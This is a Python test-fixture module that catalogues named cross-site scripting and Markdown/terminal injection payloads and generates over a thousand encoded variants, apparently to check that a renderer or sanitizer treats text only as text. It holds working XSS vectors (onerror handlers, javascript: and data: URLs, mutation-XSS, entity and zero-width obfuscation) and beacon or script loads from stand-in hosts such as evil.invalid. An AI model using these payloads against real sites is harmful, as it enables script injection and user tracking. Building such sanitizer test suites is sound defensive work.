"""Texts that try to become more than text, in HTML, in Markdown, in a terminal: the one list of them.

`NAMED` were thought of one by one; `combinations` puts more than a thousand together from the parts that such attacks
are made of. The payloads never name a real host: `.invalid` resolves nowhere (RFC 6761), `.example` is nobody's.
"""

import html
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import product
from urllib.parse import quote, unquote

from each import each

BEACON = "http://evil.example/beacon.png"
NAMED = {
    "script": "<script>window.pwned=1</script>",
    "script-src": "<script src=//evil.invalid/x.js></script>",
    "img-onerror": "<img src=x onerror=window.pwned=1>",
    "img-beacon": '<img src="https://evil.invalid/beacon.png">',
    "svg-onload": "<svg onload=window.pwned=1>",
    "svg-slash": "<svg/onload=window.pwned=1//",
    "svg-animate": '<svg><animate attributeName=href values="javascript:window.pwned=1"/></svg>',
    "anchor": '<a href="javascript:window.pwned=1">x</a>',
    "anchor-entity": '<a href="java&#115;cript:window.pwned=1">x</a>',
    "form": "<form action=https://evil.invalid><input name=q><button>Go</button></form>",
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;window.pwned=1&lt;/script&gt;"></iframe>',
    "object": "<object data=//evil.invalid></object><embed src=//evil.invalid>",
    "style": "<style>@import url(//evil.invalid/x.css);</style>",
    "style-attribute": '<p style="background:url(//evil.invalid)">x</p>',
    "link": "<link rel=stylesheet href=//evil.invalid>",
    "meta-refresh": '<meta http-equiv=refresh content="0;url=//evil.invalid">',
    "base": "<base href=//evil.invalid>",
    "details": "<details open ontoggle=window.pwned=1>x</details>",
    "template": "<template><b>x</b></template><slot name=x></slot>",
    "custom-element": "<x-y onclick=window.pwned=1>x</x-y>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.pwned=1>'>",
    "double-quote": '" onmouseover="window.pwned=1',
    "single-quote": "' onfocus='window.pwned=1' autofocus='",
    "closing-tags": "</mark></p></div><h1 id=out>out</h1>",
    "closing-page": "</title></style></article></main><script>window.pwned=1</script>",
    "comment": "<!-- x --> <![CDATA[x]]> <?php x ?> <!doctype y>",
    "comment-open": "<!--",
    "tag-open": "<b",
    "handler-alone": "x onerror=window.pwned=1",
    "image": "![x](https://evil.invalid/x.png)",
    "image-reference": "![x]\n\n[x]: https://evil.invalid/x.png",
    "link-script": "[x](javascript:window.pwned=1)",
    "link-title": '[x](https://evil.invalid "t")',
    "link-reference": "[x][y]\n\n[y]: https://evil.invalid",
    "link-nested": "](https://evil.invalid) [x",
    "marker": "Signed. [[1]](/documents/d2?start=0&end=1#passage)",
    "autolink": "<https://evil.invalid/>",
    "autolink-bare": "https://evil.invalid/a?b=c&d=e",
    "autolink-www": "www.evil.invalid",
    "autolink-mail": "a@evil.invalid",
    "heading": "# x",
    "heading-underlined": "x\n===\ny\n---",
    "quote": "> x",
    "bullets": "- x\n- y",
    "bullets-plus": "+ x",
    "numbers": "1. x\n2. y",
    "numbers-parenthesis": "1) x",
    "rule": "* * *",
    "fence": "```html\n<script>window.pwned=1</script>\n```",
    "fence-open": "~~~",
    "indented": "    <b>x</b>",
    "code": "`x`",
    "table": "| a | b |\n|---|---|\n| c | d |",
    "emphasis": "**a** __b__ *c* _d_ ~~e~~ ==f==",
    "break": "a\\\nb  \nc<br>d",
    "backslash": r"\<b\> \[x\](y)",
    "math": r"$x$ $$y$$ \(z\) \[w\]",
    "emoji-footnote": ":smile: [^1]\n\n[^1]: x",
    "entities": "&lt;img src=x onerror=window.pwned=1&gt;",
    "entities-decimal": "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "entities-hexadecimal": "&#x3c;b&#x3e;x&#X3C;/b&#X3E;",
    "entities-twice": "&amp;lt;b&amp;gt;",
    "entities-named": "javascript&colon;alert&lpar;1&rpar; &NewLine;&Tab;&lbrack;x&rbrack;",
    "entities-unfinished": "&lt &copy=1 &#60",
    "front-matter": '---\ntitle: "<b>x</b>"\nurl: javascript:window.pwned=1\n---\n<b>x</b>',
    "expressions": "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} <%= 1 %>",
    "right-to-left": "annual\u202efdp.exe\u202c \u2067<b>\u2069",
    "terminal": "\x1b[31mred \x1b]8;;https://evil.invalid\x07link\x9b0m",
    "nul": "a\x00<b>\x00</b>",
    "zero-width": "<\u200bscript>window.pwned=1</\u200bscript>",
    "full-width": "＜script＞window.pwned=1＜/script＞",
    "separators": "a\u2028<b>\u2029\x85\x0b\x0c# x",
    "half-a-pair": "a\ud800<b>\udfff",
    "page-beacon": f'"><img src="{BEACON}">',
    "page-quote": "' onmouseover='window.pwned=1",
    "page-srcdoc": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "page-closing": "</div></mark></article></title></style><h1 onclick=window.pwned=1>",
    "page-style": "<style>*{display:none}</style>",
    "page-comment": "<!-- <a href=javascript:window.pwned=1>x</a> -->",
    "page-entities": "&lt;img src=x onerror=window.pwned=1&gt; &#60;b&#62; &amp;",
    "md-link": "[click](javascript:window.pwned=1)",
    "md-link-away": f"[click]({BEACON})",
    "md-image": f"![beacon]({BEACON})",
    "md-definition": f"[x]: {BEACON} 'title'",
    "md-references": f"[x][y] ![x][y] <{BEACON}> <javascript:window.pwned=1>",
    "bare-addresses": f"{BEACON} https://evil.example www.evil.example WWW.E.EXAMPLE a@evil.example mailto:b@c.example",
    "md-emphasis": "**bold** __bold__ *it* _it_ ~~gone~~ `code` $$x$$ $x$ ^up^ ==mark==",
    "heading-alone": "# Heading",
    "numbered": "1. one",
    "numbered-parenthesis": "1) one",
    "item": "- item",
    "item-plus": "+ item",
    "item-star": "* item",
    "quoted": "> quoted",
    "rule-dashes": "---",
    "table-small": "| a | b |\n|---|---|\n| 1 | 2 |",
    "fence-mermaid": "```mermaid\ngraph TD; A-->B\n```",
    "fence-tildes": "~~~\ncode\n~~~",
    "indented-plain": "    indented code",
    "task": "- [ ] task",
    "setext": "text\n===\n\nmore\n---",
    "backslash-end": "a\\",
    "brackets": "\\[ \\] \\( \\) \\<b\\>",
    "marker-outside": "]] [[1]](/documents/other) (",
    "expressions-config": "{{ config }} {% raw %} ${window.pwned=1}",
    "line-ends": "line one\r\nline two\rline three\u2028four\u0085five",
    "bidi": "evil\u202egnp.exe \u2066isolated\u2069",
    "escapes": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J \x08\x08",
    "latex-block": "%%%LATEX_BLOCK_0%%%",
}

every_payload = each("payload", NAMED.values())
# Those that a text file can hold.
PAYLOADS = tuple(
    text for text in NAMED.values() if "\0" not in text and text.encode("utf-8", "ignore").decode() == text
)


@dataclass(frozen=True, slots=True)
class Attack:
    """Markup that calls `ran(number)` where it is taken for more than text; `plain` is how it looks once decoded."""

    number: int
    text: str
    plain: str


_ELEMENTS = (
    *("img src=x", "image src=x", "svg", "math", "video src=x", "audio src=x", "input", "select", "textarea", "button"),
    *("details open", "marquee", "iframe", "object data=x", "embed src=x", "body", "a href=x", "form", "p", "x-y"),
    *(
        "dialog open",
        "style",
        "link rel=stylesheet href=x",
        "table background=x",
        "canvas",
        "track src=x",
        "area href=x",
    ),
)
_EVENTS = (
    *("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onclick", "onanimationstart", "onpointerenter"),
    *("onstart", "onbeforetoggle", "onkeydown", "oncut", "onwheel", "onsubmit"),
)
# How the handler is written; for `{10}` and `{16}` the script comes in numbers of its characters.
_ATTRIBUTES: tuple[Callable[[str, str], str], ...] = (
    lambda name, script: f"{name}={script}",
    lambda name, script: f'{name}="{script}"',
    lambda name, script: f"{name}='{script}'",
    lambda name, script: f"{name} = {script}",
    lambda name, script: f"{name.upper()}={script}",
    lambda name, script: f"{name}\t=\t{script}",
    lambda name, _: f"{name}={{10}}",
    lambda name, _: f"{name}={{16}}",
    lambda name, script: f"autofocus tabindex=0 {name}={script} x",
)
_URLS = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "\x01javascript:{}",
    "&#106;avascript:{}",
    "javascript&colon;{}",
    "javascript:/*x*/{}",
    "javascript://x%0A{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==#{}",
    "vbscript:{}",
)
# Where an address does something.
_LED = (
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<form><button formaction="{}">x</button></form>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<object data="{}"></object>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<math href="{}">x</math>',
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[x]: {}",
    "<{}>",
    "{}",
)
_SCRIPTS = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<script >{}</script >",
    "<script/x>{}</script/x>",
    "<script type=module>{}</script>",
    "<svg><script>{}</script></svg>",
    "<script>{}",
    "<<script>{}//<</script>",
    "<script\n>{}</script\n>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;{}&lt;/script&gt;"></iframe>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={}>'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<svg><style><img src=x onerror={}></style></svg>",
    "<template><script>{}</script></template><img src=x onerror={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={} attributeName=x></svg>",
    "<base href='javascript:{}//'><a href=#>x</a>",
    "<link rel=import href='data:text/html,<script>{}</script>'>",
)
# What it stands behind, so that it gets out of what it may have been put into.
_CONTEXTS = (
    *("", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</style></script>", "</mark></p></div></article>", "`"),
    *("```\n\n", "](x) ", "![x](", "| x | ", "> ", "* ", "\n\n", "\\", "</option></select>", "</svg></math>", "$$ "),
)
# The whole of it written so that somebody must decode it first; with how it is decoded.
_ENCODINGS: tuple[tuple[Callable[[str], str], Callable[[str], str]], ...] = (
    (str, str),
    (str, str),
    (str, str),
    (html.escape, html.unescape),
    (lambda text: html.escape(html.escape(text)), lambda text: html.unescape(html.unescape(text))),
    (lambda text: "".join(f"&#{ord(sign)};" if sign in "<>" else sign for sign in text), html.unescape),
    (quote, unquote),
    (
        lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
        lambda text: text.replace("\\u003c", "<").replace("\\x3e", ">"),
    ),
    (
        lambda text: text.translate({60: 0xFF1C, 62: 0xFF1E}),
        lambda text: text.translate({0xFF1C: 60, 0xFF1E: 62}),
    ),
    (lambda text: text.replace("<", "<\u200b"), lambda text: text.replace("<\u200b", "<")),
)
_EACH = {"events": 800, "addresses": 250, "scripts": 250}


def combinations(scale: float = 1.0) -> tuple[Attack, ...]:
    """The attacks, the same ones every time: elements × events × ways of writing × contexts × encodings, sampled.

    With a smaller `scale`, so many fewer, of the same kinds.
    """
    found: list[Attack] = []
    for kind, make in (("events", _events), ("addresses", _addresses), ("scripts", _scripts)):
        chosen = random.Random(kind).sample(sorted(make()), int(_EACH[kind] * scale))
        for template, context, place in chosen:
            number = len(found)
            plain = context + _with_script(template, f"ran({number})")
            encode, decode = _ENCODINGS[place]
            text = encode(plain)
            found.append(Attack(number, text, decode(text)))
    return tuple(found)


def _with_script(template: str, script: str) -> str:
    decimal = "".join(f"&#{ord(sign)};" for sign in script)
    hexadecimal = "".join(f"&#x{ord(sign):X};" for sign in script)
    return template.replace("{}", script).replace("{10}", decimal).replace("{16}", hexadecimal)


def _events() -> Iterator[tuple[str, str, int]]:
    places = range(len(_ENCODINGS))
    for element, event, write, context, place in product(_ELEMENTS, _EVENTS, _ATTRIBUTES, _CONTEXTS, places):
        between = "/" if " " not in element and len(context) % 2 else " "
        yield f"<{element}{between}{write(event, '{}')}>", context, place


def _addresses() -> Iterator[tuple[str, str, int]]:
    for url, led, context, place in product(_URLS, _LED, _CONTEXTS, range(len(_ENCODINGS))):
        yield led.replace("{}", url), context, place


def _scripts() -> Iterator[tuple[str, str, int]]:
    yield from product(_SCRIPTS, _CONTEXTS, range(len(_ENCODINGS)))
